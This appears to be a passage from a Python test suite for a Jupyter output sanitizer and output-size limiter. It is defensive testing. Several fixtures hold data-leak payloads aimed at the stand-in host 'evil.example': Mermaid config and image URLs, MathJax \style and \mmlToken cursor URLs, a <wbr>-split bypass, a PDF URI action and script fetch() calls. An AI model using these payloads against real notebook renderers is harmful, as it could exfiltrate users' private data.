    """MathJax keeps a ``cursor`` style, whose image Chromium loads when the
    element is drawn: a public output's, hidden, was fetched once a private
    output's ``<style>`` showed it (helper 67; tests/browser/test_private_outputs_in_a_plain_lab.py)."""
    out = sanitize_bundle({mime: f"${tex}$"}, private=False)
    assert "\\style" not in out.data[mime] and "\\htmlStyle" not in out.data[mime], out.data[mime]
    assert any("could fetch disarmed" in note for note in out.removed), out.removed


@pytest.mark.parametrize("tex", ["\\style{color:red}{x}", "\\style {font-weight: bold; color: #00f}{x}"])
def test_a_public_mathjax_style_without_a_fetch_is_kept(tex: str) -> None:
    out = sanitize_bundle({"text/latex": f"${tex}$"})
    assert out.data["text/latex"] == f"${tex}$" and out.removed == []


@pytest.mark.parametrize("tex", ["\\bbox{x}", "\\bbox[yellow]{x}", "\\bbox [5px,border:2px solid red]{x}"])
def test_private_mathjax_plain_bbox_kept(tex: str) -> None:
    out = sanitize_bundle({"text/latex": f"${tex}$"}, private=True)
    assert out.data["text/latex"] == f"${tex}$" and out.removed == []


MERMAID = (
    "```mermaid\n"
    '%%{init: {"fontFamily": "x;background:url(//evil.example/f)"}}%%\n'
    'flowchart TD\n  A@{ img: "//evil.example/s", label: "rows" } --> B\n'
    "```\n"
)


@pytest.mark.parametrize(
    "markdown",
    [
        MERMAID,
        MERMAID.replace("```", "~~~~"),
        MERMAID.replace("```mermaid", "```  Mermaid"),
        MERMAID.replace("```mermaid", "```&#109;ermaid"),
        "> " + MERMAID.replace("\n", "\n> "),
        "- item\n\n  " + MERMAID.replace("\n", "\n  "),
        "1. item\n   " + MERMAID.replace("\n", "\n   "),
    ],
)
def test_private_mermaid_diagrams_are_shown_as_their_source(markdown: str) -> None:
    """Mermaid draws in the page first, and its configuration, styles and image
    shapes fetch (attacked in a browser: tests/browser/test_private_outputs_in_a_plain_lab.py):
    once private, no fence that JupyterLab would draw is left, wherever it sits."""
    out = sanitize_bundle({"text/markdown": markdown}, private=True)
    text = out.data["text/markdown"]
    fences = [line.lstrip(" >-1.") for line in text.splitlines() if line.lstrip(" >-1.").startswith(("```", "~~~"))]
    assert fences and all("mermaid" not in f.lower() or "mermaid-source" in f for f in fences), text
    assert "flowchart TD" in text  # the source is still shown
    assert any("mermaid diagram shown as its source" in note for note in out.removed)
    assert _inner(sanitize_bundle({"text/markdown": markdown}).data["text/markdown"]) == markdown  # public: drawn


def test_private_markdown_without_diagrams_keeps_its_fences() -> None:
    markdown = "```python\nprint('mermaid')\n```\n\nA mermaid is a sea creature.\n"
    out = sanitize_bundle({"text/markdown": markdown}, private=True)
    assert _inner(out.data["text/markdown"]) == markdown and out.removed == []


# ----------------------------------------------------------------------------- trust


def test_trusted_keeps_script_and_javascript():
    data = {"text/html": "<script>alert(1)</script>", "application/javascript": "alert(2)"}
    r = sanitize_bundle(data, trusted=True)
    assert r.data == data and r.removed == []


def test_trusted_still_validates_types():
    r = sanitize_bundle({"text/html": 5, "text/plain": "x"}, trusted=True)
    assert r.data == {"text/plain": "x"} and r.removed


def test_trusted_but_private_strips_external_urls_and_scripts():
    data = {
        "text/html": '<img src="https://evil.example/a.png"><script>fetch("https://evil.example")</script>',
        "application/javascript": "fetch('https://evil.example')",
        "text/plain": "x",
    }
    r = sanitize_bundle(data, trusted=True, private=True)
    assert "evil.example" not in html_of(r)
    assert "application/javascript" not in r.data
    assert_no_fetch(html_of(r))
    assert any("private data" in n for n in r.removed)


# ----------------------------------------------------------------------------- limits


def test_limiter_cuts_text_at_budget_and_counts_discarded():
    lim = OutputLimiter(max_bytes=10, max_bundle_bytes=100)
    assert lim.admit_text("abcd") == "abcd"
    assert lim.admit_text("efghijkl") == "efghij"
    assert lim.admit_text("more") is None
    assert lim.truncated
    note = lim.truncation_note()
    assert note is not None and "6 bytes more were discarded" in note and "limit 10 bytes per cell" in note


def test_limiter_counts_utf8_bytes_and_cuts_on_character_boundary():
    lim = OutputLimiter(max_bytes=5)
    out = lim.admit_text("ééé")  # 6 bytes
    assert out == "éé"
    assert "2 bytes more" in (lim.truncation_note() or "")


def test_limiter_refuses_huge_bundle_but_keeps_budget_for_text():
    lim = OutputLimiter(max_bytes=1000, max_bundle_bytes=500)
    assert lim.admit_bundle({"image/png": "A" * 400}) is True
    assert lim.admit_bundle({"image/png": "A" * 5000}) is False
    assert lim.admit_text("x" * 100) == "x" * 100
    note = lim.truncation_note() or ""
    assert "over the 500 bytes limit per display" in note


def test_limiter_200mb_style_flood_is_cheap_and_reported():
    lim = OutputLimiter(max_bytes=10 * 1024 * 1024)
    chunk = "x" * (1024 * 1024)
    forwarded = 0
    for _ in range(200):
        out = lim.admit_text(chunk)
        forwarded += len(out or "")
    assert forwarded == 10 * 1024 * 1024
    assert lim.truncation_note() == (
        "[sandbox_kernel: output truncated; 190.0 MB more were discarded "
        "(limit 10.0 MB per cell, set SandboxKernel.max_output_bytes)]"
    )


def test_limiter_quiet_when_nothing_cut():
    lim = OutputLimiter()
    assert lim.admit_text("hello") == "hello"
    assert lim.admit_bundle({"text/plain": "x", "application/json": {"a": 1}})
    assert not lim.truncated and lim.truncation_note() is None


def test_private_session_drops_pdf_a_viewer_could_use_to_fetch() -> None:
    import base64

    pdf = base64.b64encode(b"%PDF-1.4\n1 0 obj<</URI (http://evil.example/leak)>>endobj").decode()
    public = sanitize_bundle({"application/pdf": pdf, "text/plain": "doc"})
    private = sanitize_bundle({"application/pdf": pdf, "text/plain": "doc"}, private=True)
    assert "application/pdf" in public.data
    assert "application/pdf" not in private.data and private.data["text/plain"] == "doc"
    assert any("application/pdf" in note for note in private.removed)


def test_inert_tags_jupyterlab_keeps_are_kept_and_their_urls_still_checked():
    """FileLink's ``<tt>``, fastai's ``<progress>`` bar and other formatting
    were dropped; they run and fetch nothing. A style on them is still checked."""
    markup = (
        "<tt>x.txt</tt><progress value='3' max='10' style='width:300px'></progress>"
        "<meter value='0.4' min='0' max='1'></meter><center><font color='red' face='mono'>f</font></center>"
        "<section><nav>n</nav></section><big>b</big><strike>s</strike>"
        '<tt style="background:url(https://example.com/x.png)">t</tt>'
    )
    r = sanitize_bundle({"text/html": markup}, private=True)
    kept = scan(html_of(r)).tags
    for tag in ("tt", "progress", "meter", "center", "font", "section", "nav", "big", "strike"):
        assert tag in kept, (tag, html_of(r))
    assert 'value="3"' in html_of(r) and 'max="10"' in html_of(r) and 'color="red"' in html_of(r)
    assert_no_fetch(html_of(r))


@pytest.mark.parametrize("private", [True, False])
def test_math_split_by_a_wbr_is_disarmed(private: bool) -> None:
    """MathJax reads a page's math without its ``<wbr>``: ``\\mml<wbr>Token``
    reached it as ``\\mmlToken`` past clean_tex, which saw two words, and the
    private output fetched in a Lab (helper 75). ``<wbr>`` is not kept."""
    html = '<p>$x\\mml<wbr>Token{mglyph}[src="//evil.example/a"]{}$ $\\sty<wbr>le{cursor:url(//evil.example/b)}{y}$</p>'
    out = sanitize_bundle({"text/html": html}, private=private).data["text/html"]
    assert "<wbr" not in out and "\\mmlToken" not in out and "\\style" not in out, out


@pytest.mark.parametrize("private", [True, False])
def test_a_mathjax_token_is_disarmed_in_every_session(private: bool) -> None:
    """``\\mmlToken{mi}[style="cursor:url(...)"]`` in a hidden public block
    fetched when a private output's CSS showed it (helper 75, in a Lab)."""
    tex = '$\\mmlToken{mi}[style="cursor:url(//evil.example/bit),auto"]{y}$'
    for mime in ("text/latex", "text/markdown", "text/html"):
        out = sanitize_bundle({mime: tex}, private=private)
        assert "\\mmlToken" not in out.data[mime], out.data[mime]
